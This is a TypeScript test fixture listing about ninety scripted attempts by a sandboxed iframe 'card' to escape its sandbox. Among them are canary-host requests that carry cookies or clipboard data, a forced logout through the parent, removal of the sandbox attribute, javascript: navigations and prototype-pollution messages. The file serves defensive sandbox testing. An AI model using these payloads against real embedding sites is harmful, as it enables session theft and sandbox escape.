const html = (text: string): string => `document.body.insertAdjacentHTML('beforeend', \`${text}\`)`

const reaching = (): string[] => [
  `localStorage.setItem('stolen', 1)`,
  `sessionStorage.setItem('stolen', 1)`,
  `parent.localStorage.setItem('stolen', 1)`,
  `document.cookie = 'stolen=1'`,
  `cookieStore.set('stolen', '1').catch(() => {})`,
  `indexedDB.open('stolen')`,
  `caches.open('stolen').catch(() => {})`,
  `navigator.storage.getDirectory().catch(() => {})`,
  `parent.document.title = 'stolen'`,
  `top.document.body.innerHTML = 'stolen'`,
  `frameElement.sandbox = 'allow-same-origin'`,
  `frameElement.removeAttribute('sandbox')`,
  `parent.location.hash = 'stolen'`,
  `opener.document.title = 'stolen'`,
  `for (const other of [parent[0], parent[1]]) other.document.title = 'stolen'`,
  `document.domain = 'localhost'; parent.document.title = 'stolen'`,
  `new BroadcastChannel('live').postMessage({ event: 'login_ended' })`,
  `navigator.locks.request('outbox', () => new Promise(() => {})).catch(() => {})`,
  `navigator.serviceWorker.register('/sw.js').catch(() => {})`,
  `navigator.credentials.get({ password: true }).catch(() => {})`,
  `document.requestStorageAccess().catch(() => {})`,
  `window.name = 'stolen'; parent.name = 'stolen'`,
  `parent.document.cookie; parent.fetch('/api/v1/auth/logout', { method: 'POST' })`,
  `Object.getPrototypeOf(parent).stolen = 1`,
  `navigator.clipboard.readText().then(() => parent.postMessage('stolen', '*'), () => {})`,
]

const asking = (canary: string): string[] => [
  `fetch('${canary}/fetch').catch(() => {})`,
  `fetch('/api/v1/users/me', { credentials: 'include' }).then(a => a.text()).then(t => document.title = t, () => {})`,
  `const x = new XMLHttpRequest(); x.open('GET', '${canary}/xhr'); x.send()`,
  `navigator.sendBeacon('${canary}/beacon', 'x')`,
  `new WebSocket('${canary.replace('http', 'ws')}/socket')`,
  `new EventSource('${canary}/events')`,
  `new Image().src = '${canary}/image'`,
  html(`<img srcset="${canary}/srcset 1x"><picture><source srcset="${canary}/picture"><img></picture>`),
  html(
    `<link rel="prefetch" href="${canary}/prefetch"><link rel="preload" as="image" href="${canary}/preload">`,
  ),
  html(`<link rel="stylesheet" href="${canary}/sheet"><link rel="icon" href="${canary}/icon">`),
  html(
    `<link rel="modulepreload" href="${canary}/modulepreload"><link rel="manifest" href="${canary}/manifest">`,
  ),
  html(`<style>@import "${canary}/css"; body { background: url(${canary}/background) }</style>`),
  html(`<style>@font-face { font-family: f; src: url(${canary}/font) } body { font-family: f }</style>`),
  `new FontFace('g', 'url(${canary}/fontface)').load().catch(() => {})`,
  html(
    `<video src="${canary}/video" poster="${canary}/poster" autoplay></video><audio src="${canary}/audio" autoplay>`,
  ),
  html(`<object data="${canary}/object"></object><embed src="${canary}/embed">`),
  html(`<svg><image href="${canary}/svg"/><use href="${canary}/use#a"/></svg>`),
  html(
    `<table background="${canary}/table"><tr><td>x</td></tr></table><input type="image" src="${canary}/input">`,
  ),
  `import('${canary}/module.js').catch(() => {})`,
  `const s = document.createElement('script'); s.src = '${canary}/script'; document.body.append(s)`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("${canary}/worker")'])))`,
  `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${canary}/shared")'])))`,
  `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] }).createDataChannel('x')`,
  `new WebTransport('${canary.replace('http', 'https')}/transport')`,
  `new ReportingObserver(() => {}); fetch('${canary}/report', { method: 'POST', keepalive: true }).catch(() => {})`,
  html(`<link rel="dns-prefetch" href="${canary}"><link rel="preconnect" href="${canary}">`),
  html(
    `<svg><filter id="f"><feImage href="${canary}/feimage"/></filter></svg><p style="filter:url(${canary}/filter#f)">x</p>`,
  ),
  html(
    `<p style="cursor:url(${canary}/cursor),auto;mask:url(${canary}/mask);border-image:url(${canary}/border) 1">x</p>`,
  ),
  html(`<a href="${canary}/pinged" ping="${canary}/ping" attributionsrc="${canary}/attribution">x</a>`),
  `const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = '{"prefetch":[{"urls":["${canary}/speculation"]}]}'; document.head.append(r)`,
  `const m = document.createElement('script'); m.type = 'importmap'; m.textContent = '{"imports":{"x":"${canary}/map.js"}}'; document.head.append(m); import('x').catch(() => {})`,
  `fetchLater('${canary}/later')`,
  `document.body.style.setProperty('--x', 'url(${canary}/property)'); document.body.style.background = 'var(--x)'`,
  `CSS.paintWorklet.addModule('${canary}/worklet').catch(() => {})`,
  `new AudioContext().audioWorklet.addModule('${canary}/audio').catch(() => {})`,
  `$.get('${canary}/jquery'); $('body').load('${canary}/load')`,
]

/** Includes prompts to the user in a new window. */
const opening = (canary: string): string[] => [
  `open('${canary}/open')`,
  `open('javascript:opener.parent.document.title=1')`,
  `${html(`<a id="a" href="${canary}/blank" target="_blank">x</a>`)}; document.getElementById('a').click()`,
  html(`<a id="d" href="data:text/plain,x" download="x.txt">x</a>`) +
    `; document.getElementById('d').click()`,
  `alert(1); confirm(1); prompt(1); print()`,
  `document.documentElement.requestFullscreen().catch(() => {})`,
  `document.body.requestPointerLock()`,
  `Notification.requestPermission().catch(() => {})`,
  `navigator.geolocation.getCurrentPosition(() => {})`,
  `navigator.mediaDevices.getUserMedia({ audio: true }).catch(() => {})`,
  `new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show().catch(() => {})`,
]

/** Attempts to navigate; a frame that succeeds no longer responds. */
const leaving = (canary: string): string[] => [
  `top.location = '${canary}/top'`,
  `parent.location.replace('${canary}/parent')`,
  `location = '${canary}/self'`,
  `location = '/login'`,
  `location = 'data:text/html,<script src=${canary}/data></script>'`,
  `location = 'javascript:parent.document.title=1'`,
  `location.reload()`,
  `location = URL.createObjectURL(new Blob(['<script src="${canary}/blob"></script>'], { type: 'text/html' }))`,
  html(`<meta http-equiv="refresh" content="0;url=${canary}/meta">`),
  html(`<form action="${canary}/form" target="_top"><input name="a"></form>`) +
    `; document.forms[0].submit()`,
  html(
    `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>parent.parent.document.title=1</script>"></iframe>`,
  ),
  `${html(`<base href="${canary}/base/"><a id="b" href="x">x</a>`)}; document.getElementById('b').click()`,
  `history.back(); history.pushState(null, '', '/stolen'); history.replaceState(null, '', '#stolen')`,
  `navigation.navigate('${canary}/navigation')`,
]

/** Attempts to use the frame's channel directly, past the functions on offer. */
const speaking = (): string[] => {
  const say = (...messages: string[]) => `
    const { postMessage } = MessagePort.prototype
    MessagePort.prototype.postMessage = function (own) {
      MessagePort.prototype.postMessage = postMessage
      for (const message of [${messages.join()}]) postMessage.call(this, typeof message === 'string' ? message : JSON.stringify(message))
      postMessage.call(this, own)
    }`
  const write = (changes: string) => `'{"type":"set_variables","message":null,"changes":${changes}}'`
  return [
    say(`{ type: 'send', text: 'stolen' }`, `{ type: 'set_input', text: 'stolen' }`),
    say(
      write('[{"path":["__proto__","stolen"],"value":1}]'),
      write('[{"path":["a"],"value":{"__proto__":{"stolen":1}}}]'),
    ),
    say(write('[{"path":["constructor","prototype","stolen"],"value":"kept as data"}]')),
    say(`{ type: 'set_variables', message: 'elsewhere', changes: [{ path: ['stolen'], value: 1 }] }`),
    say(
      `{ type: 'set_variables', message: null, changes: [{ path: ['stolen'], value: 'x'.repeat(70000) }] }`,
    ),
    say(
      `{ type: 'resize', height: 1e12 }`,
      `{ type: 'open_link', url: 'javascript:document.title=1' }`,
      `'null'`,
      `'{'`,
    ),
    `for (let n = 0; n < 1000; n++) parent.postMessage({ type: 'send', text: 'stolen' }, '*')`,
    `const { port1, port2 } = new MessageChannel(); parent.postMessage(null, '*', [port2]); port1.postMessage('{"type":"ready"}')`,
    `window.dispatchEvent(new MessageEvent('message', { source: parent, ports: [new MessageChannel().port1] }))`,
  ]
}

/** About ninety things that a card must not do (docs/spec/security.md S6), each as a document's script. */
export const attempts = (canary: string): string[] => [
  ...reaching(),
  ...asking(canary),
  ...opening(canary),
  ...speaking(),
  ...leaving(canary),
]
